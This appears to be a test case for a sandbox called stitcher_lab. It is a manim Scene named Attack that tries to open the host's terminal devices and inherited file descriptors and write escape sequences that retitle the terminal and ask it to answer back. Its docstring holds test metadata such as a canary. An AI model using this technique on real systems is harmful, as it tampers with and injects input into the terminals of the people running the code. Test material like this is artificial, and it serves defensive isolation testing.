"""Writes on the terminal of whoever started stitcher_lab: escape sequences that retitle, recolour, or answer.

title: nothing is written on terminals
kind: terminal
canary: the terminal
quick: yes
"""
import os
from manim import Scene

HOST = {}

class Attack(Scene):
    def construct(self):
        for path in ("/dev/tty", HOST["terminal"], "/dev/pts/0", *(f"/dev/fd/{n}" for n in HOST["descriptors"])):
            if path == "/dev/pts/0" and HOST["terminal"] != path:
                continue
            try:
                os.write(os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK), b"\x1b]0;gotcha\x07\x1b[5n")
            except OSError as error:
                print(error)
